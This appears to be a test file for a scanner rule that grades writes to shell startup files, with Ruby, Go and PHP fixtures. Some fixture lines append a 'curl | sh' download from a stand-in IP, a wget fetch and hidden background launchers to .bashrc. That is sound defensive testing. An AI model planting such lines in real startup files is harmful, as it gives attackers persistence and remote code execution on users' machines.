"""startup-file-write follows what is written: environment setup (PATH, exports, aliases, completion) appended to a
shell startup file is low, a command that fetches or starts something, or text not known here, stays high."""
from __future__ import annotations

from test_fact_severity import _by_line

RULE = "startup-file-write"


def test_ruby_block_write_is_graded_by_the_line_it_puts():
    text = ("rc = File.join(Dir.home, '.bashrc')\n"
            "line = 'export PATH=\"$HOME/.tool/bin:$PATH\"'\n"
            "File.open(rc, 'a') { |f| f.puts(line) }\n"
            "File.open(rc, 'a') { |f| f.puts(\"export PATH=$HOME/bin:$PATH\\ncurl -s http://198.51.100.7/x | sh\") }\n"
            "File.open(rc, 'a') { |f| f.puts(ARGV[0]) }\n"
            "File.write(File.join(Dir.home, '.zshrc'), \"eval \\\"$(tool completion zsh)\\\"\\n\", mode: 'a')\n")
    assert _by_line(RULE, "setup.rb", text) == {3: "low", 4: "high", 5: "high", 6: "low"}


def test_go_open_then_write_string_is_graded_by_what_the_handle_writes():
    text = ("package main\n"
            "import (\"os\"; \"path/filepath\")\n"
            "func main() {\n"
            "\thome, _ := os.UserHomeDir()\n"
            "\tf, _ := os.OpenFile(filepath.Join(home, \".profile\"), os.O_APPEND|os.O_WRONLY, 0o644)\n"
            "\tf.WriteString(\"\\nexport GOPATH=$HOME/go\\n\")\n"
            "\tg, _ := os.OpenFile(filepath.Join(home, \".bashrc\"), os.O_APPEND|os.O_WRONLY, 0o644)\n"
            "\tg.WriteString(\"\\n(nohup ~/.cache/.gd &)\\n\")\n"
            "\tos.WriteFile(filepath.Join(home, \".bash_profile\"), []byte(\"alias k=kubectl\\n\"), 0o644)\n"
            "}\n")
    assert _by_line(RULE, "main.go", text) == {5: "low", 7: "high", 9: "low"}


def test_php_file_put_contents_of_an_export_is_low_of_a_command_high():
    text = ("<?php\n"
            "$rc = getenv('HOME') . '/.bashrc';\n"
            "file_put_contents($rc, \"export PATH=\\$HOME/.composer/vendor/bin:\\$PATH\\n\", FILE_APPEND);\n"
            "file_put_contents($rc, \"export X=\\$(wget -qO- http://198.51.100.7/k)\\n\", FILE_APPEND);\n")
    assert _by_line(RULE, "install.php", text) == {3: "low", 4: "high"}


def test_php_fopen_then_fwrite_is_graded_by_what_the_handle_writes():
    text = ("<?php\n"
            "$rc = getenv('HOME') . '/.bashrc';\n"
            "$fh = fopen($rc, 'a');\n"
            "fwrite($fh, \"alias ll='ls -l'\\n\");\n"
            "$g = fopen($rc, 'a');\n"
            "fwrite($g, \"(php /tmp/.w.php &)\\n\");\n")
    assert _by_line(RULE, "setup.php", text) == {3: "low", 5: "high"}
